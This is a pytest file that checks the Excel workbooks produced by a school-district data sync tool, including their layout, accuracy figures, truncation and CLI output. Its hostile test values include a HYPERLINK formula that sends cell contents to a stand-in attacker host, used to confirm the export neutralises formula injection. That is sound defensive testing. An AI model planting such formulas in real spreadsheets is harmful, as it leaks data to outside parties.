"""The XLSX workbooks, read back with openpyxl: the Verification Summary (as the flow stores
and links it, and as ``summary --report xlsx`` writes it), its state-wide form, and the Sync
History (``history list --report xlsx``, ``report RUN -o F.xlsx``)."""

from __future__ import annotations

import datetime as dt
import sqlite3

import openpyxl
import pytest
from openpyxl.utils import get_column_letter
from typer.testing import CliRunner

from selective_sync.errors import BadInput
from selective_sync.models import (
    ColumnDiff,
    DistrictVerification,
    ObjectVerification,
    RecordIssue,
)
from selective_sync.registry import get_object
from selective_sync.reports.model import format_accuracy, verification_report_from_result
from selective_sync.reports.storage import ReportStorage, StoredReport
from selective_sync.reports.xlsx import (
    DISTRICTS_COLUMNS,
    MAX_CELL_CHARS,
    REQUEST_COLUMNS,
    SUMMARY_COLUMNS,
    split_rows,
    write_state_xlsx,
    write_verification_xlsx,
)

LEADING_ZEROS = "000123"
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")'
NON_LATIN = "Đặng 李小龍 Ñúñez ـمحمد"
LABELS = {
    "missing_at_state": "Missing at state",
    "missing_at_district": "Missing at district",
    "mismatched": "Mismatched",
}


# ---------------------------------------------------------------- helpers


def invoke(args: list[str]):
    from flows.cli import app, register

    register()
    return CliRunner().invoke(app, args)


def sheet_rows(path) -> dict[str, list[tuple]]:
    book = openpyxl.load_workbook(path)
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}


def shown(value) -> str | None:
    """How a compared value reads back (independent of the renderer's helper): NULL for
    no value, and an empty text as an empty cell (a spreadsheet has no empty text)."""
    if value is None:
        return "NULL"
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    return str(value) or None


def utc(moment: dt.datetime) -> dt.datetime:
    return moment.astimezone(dt.UTC).replace(tzinfo=None)


def percent_of(distinct: int, errors: int) -> float:
    """The accuracy cell's value: the floored text of the reports, as a fraction."""
    return round(float(format_accuracy(distinct, errors)[:-1]) / 100, 6)


def expected_issue_rows(o: ObjectVerification, district: int | None = None) -> list[tuple]:
    rows = []
    for issue in sorted(o.issues, key=lambda i: i.key):
        head = (district,) if district is not None else ()
        label = LABELS[issue.issue]
        if not issue.diffs:
            rows.append((*head, issue.key, label, None, None, None))
        for d in issue.diffs:
            rows.append((*head, issue.key, label, d.column, shown(d.district), shown(d.state)))
    return rows


def same_second(a: dt.datetime, b: dt.datetime) -> bool:
    return abs((a - b).total_seconds()) < 1


def check_sheet_layout(ws) -> None:
    """Header frozen, autofilter over the whole table, widths within bounds."""
    assert ws.freeze_panes == "A2", ws.title
    last = get_column_letter(ws.max_column)
    assert ws.auto_filter.ref == f"A1:{last}{max(ws.max_row, 2)}", ws.title
    for col in range(1, ws.max_column + 1):
        width = ws.column_dimensions[get_column_letter(col)].width
        assert 8 <= width <= 61, (ws.title, col, width)  # XlsxWriter adds 0.71 of padding
    assert all(cell.font.b for cell in ws[1]), ws.title


def check_against_summary(path, stored: DistrictVerification, trend) -> None:
    """Every sheet of the workbook at ``path`` holds what the stored summary holds."""
    rows = sheet_rows(path)
    names = [o.object for o in stored.objects]
    expected_sheets = ["Summary", "Districts"] + (["Trend"] if len(trend.runs) > 1 else [])
    assert list(rows) == expected_sheets + names

    summary = rows["Summary"]
    assert summary[0] == SUMMARY_COLUMNS
    assert len(summary) == 1 + len(stored.objects)
    for row, o in zip(summary[1:], stored.objects, strict=True):
        assert row[:3] == (stored.district_number, stored.district_name, o.object)
        assert row[3] == percent_of(o.distinct, o.errors)
        assert same_second(row[4], utc(o.verified_at))
        assert row[5:] == (
            o.distinct,
            o.at_district,
            o.at_state,
            o.errors,
            len(o.missing_at_state),
            len(o.missing_at_district),
            len(o.mismatched),
        )

    distinct = sum(o.distinct for o in stored.objects)
    errors = sum(o.errors for o in stored.objects)
    assert rows["Districts"] == [
        DISTRICTS_COLUMNS,
        (
            stored.district_number,
            stored.district_name,
            percent_of(distinct, errors),
            distinct,
            errors,
            len(stored.objects),
            sum(len(o.issues) for o in stored.objects),
        ),
    ]

    if "Trend" in rows:
        header, *runs = rows["Trend"]
        assert header[:3] == ("District", "District name", "Verified (UTC)")
        assert list(header[3:]) == trend.objects
        assert len(runs) == len(trend.runs)
        for row, run in zip(runs, trend.runs, strict=True):
            assert same_second(row[2], utc(run.verified_at))
            for name, cell in zip(trend.objects, row[3:], strict=True):
                counts = run.counts.get(name)
                assert cell == (None if counts is None else percent_of(*counts))

    for o in stored.objects:
        header, *issue_rows = rows[o.object]
        assert header == (get_object(o.object).key_label, "Issue", "Column") + (
            "District value",
            "State value",
        )
        assert issue_rows == expected_issue_rows(o)

    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        check_sheet_layout(ws)


def find_cell(ws, key: int, column: str):
    """The district-value cell of ``key``'s difference in ``column``."""
    for row in ws.iter_rows(min_row=2):
        if row[0].value == key and row[2].value == column:
            return row[3]
    raise AssertionError(f"no row for {key} {column} in {ws.title}")


# ---------------------------------------------------------------- the stored summary


@pytest.fixture
def hostile_person_values(demo):
    """Three clean persons made to differ at the district: a state ID with leading zeros,
    a last name that is a formula, and a first name in non-Latin scripts."""
    issues = demo.manifest["PersonIdentity"]
    fails = demo.manifest["will_fail"]["PersonIdentity"]
    taken = {k for keys in issues.values() for k in keys}
    taken |= {k for keys in fails.values() for k in keys}
    with sqlite3.connect(demo.dir / "district.db") as conn:
        persons = [r[0] for r in conn.execute("SELECT person_id FROM person ORDER BY person_id")]
        zeros, formula, script = [k for k in persons if k not in taken][:3]
        conn.execute("UPDATE person SET state_id = ? WHERE person_id = ?", (LEADING_ZEROS, zeros))
        for column, value, key in (
            ("last_name", FORMULA, formula),
            ("first_name", NON_LATIN, script),
        ):
            conn.execute(
                f"UPDATE identity SET {column} = ? WHERE identity_id = "  # noqa: S608 (fixed names)
                "(SELECT current_identity_id FROM person WHERE person_id = ?)",
                (value, key),
            )
    return {"state_id": zeros, "last_name": formula, "first_name": script}


@pytest.mark.usefixtures("prefect_api")
def test_workbook_of_the_stored_summary(demo, admin, hostile_person_values, tmp_path):
    from selective_sync.verification.store import DatabaseSummaryStore

    summaries = DatabaseSummaryStore()  # the record: the state database
    load_latest_summary, load_trend = summaries.load_latest_summary, summaries.load_trend
    from flows.verification_summary import verification_summary

    # Twice, so that the stored trend has more than one run.
    verification_summary(requested_by=admin)
    state = verification_summary(requested_by=admin, return_state=True)
    assert state.is_completed(), state.message
    run_id = str(state.state_details.flow_run_id)
    stored = load_latest_summary(275)
    trend = load_trend(275)
    assert [o.object for o in stored.objects] == ["PersonIdentity", "Enrollment", "Graduation"]

    # The workbook the run stored (and linked), checked against the stored summary.
    linked = ReportStorage.from_settings().path(StoredReport.verification(275, run_id, "xlsx"))
    check_against_summary(linked, stored, trend)

    person = openpyxl.load_workbook(linked)["PersonIdentity"]
    zeros = find_cell(person, hostile_person_values["state_id"], "state_id")
    assert (zeros.value, zeros.data_type, zeros.number_format) == (LEADING_ZEROS, "s", "@")
    formula = find_cell(person, hostile_person_values["last_name"], "last_name")
    # Text, never a formula; flagged like a typed-in '= so that editing keeps it text.
    assert (formula.value, formula.data_type, formula.quotePrefix) == (FORMULA, "s", True)
    script = find_cell(person, hostile_person_values["first_name"], "first_name")
    assert (script.value, script.data_type, script.quotePrefix) == (NON_LATIN, "s", False)
    mismatched = set(demo.manifest["PersonIdentity"]["mismatched"])
    assert mismatched <= {row[0].value for row in person.iter_rows(min_row=2)}

    # summary --report xlsx writes the same workbook from the stored summary.
    out = tmp_path / "summary.xlsx"
    done = invoke(["summary", "--report", "xlsx", "-o", str(out), "--user", admin])
    assert done.exit_code == 0, done.output
    assert "wrote the Verification Summary (xlsx)" in done.output
    check_against_summary(out, stored, trend)
    assert sheet_rows(out) == sheet_rows(linked)


# ---------------------------------------------------------------- plain renderer checks


NOW = dt.datetime(2026, 11, 28, 20, 15, tzinfo=dt.UTC)


def district(number: int, name: str, last_names: list[str]) -> DistrictVerification:
    issues = [
        RecordIssue(10 + i, "mismatched", (ColumnDiff("last_name", value, "Smith"),))
        for i, value in enumerate(last_names)
    ] + [RecordIssue(99, "missing_at_state")]
    person = ObjectVerification(
        object="PersonIdentity",
        district_number=number,
        verified_at=NOW,
        at_district=1000,
        at_state=999,
        missing_at_state=[99],
        mismatched=[10 + i for i in range(len(last_names))],
        issues=issues,
    )
    return DistrictVerification(number, name, [person])


def test_state_wide_workbook_of_several_districts(tmp_path):
    one = district(275, "MAPLE VALLEY", ["a", "b"])
    two = district(276, "=CEDAR", ["x" * (MAX_CELL_CHARS + 10), "+1", "0042"])
    reports = [verification_report_from_result(d, NOW) for d in (one, two)]
    path = write_verification_xlsx(reports, tmp_path / "state.xlsx")
    rows = sheet_rows(path)
    assert list(rows) == ["Summary", "Districts", "PersonIdentity"]
    assert [r[:3] for r in rows["Summary"][1:]] == [
        (275, "MAPLE VALLEY", "PersonIdentity"),
        (276, "=CEDAR", "PersonIdentity"),
    ]
    assert [r[:3] + r[3:5] for r in rows["Districts"][1:]] == [
        (275, "MAPLE VALLEY", percent_of(1000, 3), 1000, 3),
        (276, "=CEDAR", percent_of(1000, 4), 1000, 4),
    ]
    header, *issue_rows = rows["PersonIdentity"]
    assert header[:2] == ("District", "personID")
    person = {d.district_number: d.objects[0] for d in (one, two)}
    expected = expected_issue_rows(person[275], 275) + expected_issue_rows(person[276], 276)
    at = expected.index((276, 10, "Mismatched", "last_name", "x" * (MAX_CELL_CHARS + 10), "Smith"))
    long_value = expected[at][4]
    # Excel holds 32,767 characters in a cell: a longer value says it was cut.
    expected[at] = (*expected[at][:4], issue_rows[at][4], "Smith")
    assert issue_rows == expected
    assert len(issue_rows[at][4]) <= MAX_CELL_CHARS < len(long_value)
    assert issue_rows[at][4].startswith("x" * 1000)
    assert issue_rows[at][4].endswith(f"[truncated: {len(long_value):,} characters]")
    book = openpyxl.load_workbook(path)
    assert book["Districts"]["B3"].quotePrefix and book["Districts"]["B3"].data_type == "s"
    for ws in book.worksheets:
        check_sheet_layout(ws)


def test_state_workbook_from_district_results(tmp_path):
    one = district(275, "MAPLE VALLEY", ["a"])
    two = district(312, "CEDAR FALLS", ["b", "c"])
    path = write_state_xlsx([one, two], tmp_path / "state.xlsx", generated_at=NOW)
    rows = sheet_rows(path)
    assert [r[0] for r in rows["Districts"][1:]] == [275, 312]
    assert [r[:2] for r in rows["PersonIdentity"][1:]] == [
        (275, 10),
        (275, 99),
        (312, 10),
        (312, 11),
        (312, 99),
    ]
    with pytest.raises(ValueError, match="twice"):
        write_state_xlsx([one, one], tmp_path / "twice.xlsx")
    assert not (tmp_path / "twice.xlsx").exists()


def test_split_rows_keeps_every_row_in_order():
    import pandas as pd

    frame = pd.DataFrame({"Key": range(10)})
    parts = split_rows(frame, max_rows=4)
    assert [list(p["Key"]) for p in parts] == [[0, 1, 2], [3, 4, 5], [6, 7, 8], [9]]
    assert len(split_rows(frame.iloc[:0], max_rows=4)) == 1


# ---------------------------------------------------------------- the Sync History


@pytest.mark.usefixtures("prefect_api")
def test_sync_history_workbooks(demo, admin, tmp_path):
    from flows.history_store import get_entry, list_entries
    from flows.sync_request import selective_sync

    fails = demo.manifest["will_fail"]["Enrollment"]
    ids = [fails["parent_missing"][0], demo.manifest["Enrollment"]["mismatched"][0], 999_999_999]
    state = selective_sync(object="Enrollment", ids=ids, requested_by=admin, return_state=True)
    assert state.is_completed(), state.message
    run_id = str(state.state_details.flow_run_id)

    listing = tmp_path / "history.xlsx"
    done = invoke(["history", "list", "--report", "xlsx", "-o", str(listing), "--user", admin])
    assert done.exit_code == 0, done.output
    entries = list_entries(None, 50, user=admin)
    rows = sheet_rows(listing)
    assert list(rows) == ["Requests"]
    header, *requests = rows["Requests"]
    assert header == REQUEST_COLUMNS
    assert [r[0] for r in requests] == [e.run_id for e in entries]
    mine = next(r for r in requests if r[0] == run_id)
    entry = get_entry(run_id, user=admin)
    assert mine[3:5] == (admin, "Complete") and mine[6:8] == ("Enrollment", 275)
    assert mine[9] == 3 and (mine[11], mine[12]) == (entry.records_succeeded, 3)
    assert same_second(mine[2], utc(entry.requested_at))

    one = tmp_path / "request.xlsx"
    done = invoke(["report", run_id[:8], "-o", str(one), "--user", admin])
    assert done.exit_code == 0, done.output
    rows = sheet_rows(one)
    assert list(rows) == ["Requests", "Outcomes"]
    assert [r[0] for r in rows["Requests"][1:]] == [run_id]
    assert rows["Outcomes"][1:] == [
        (k.key, k.outcome.value, k.attempts, k.reason, ", ".join(k.parents_synced) or None)
        for k in entry.outcomes
    ]
    assert {r[1] for r in rows["Outcomes"][1:]} == {"failed", "synced", "not_found"}

    for args, message in (
        (["history", "list", "--report", "pdf", "-o", str(tmp_path / "h.pdf")], "xlsx only"),
        (["history", "list", "--report", "xlsx"], "needs --output"),
        (["history", "list", "-o", str(tmp_path / "h.xlsx")], "needs --report"),
    ):
        done = invoke([*args, "--user", admin])
        assert isinstance(done.exception, BadInput) and message in str(done.exception), args
    assert not (tmp_path / "h.pdf").exists() and not (tmp_path / "h.xlsx").exists()
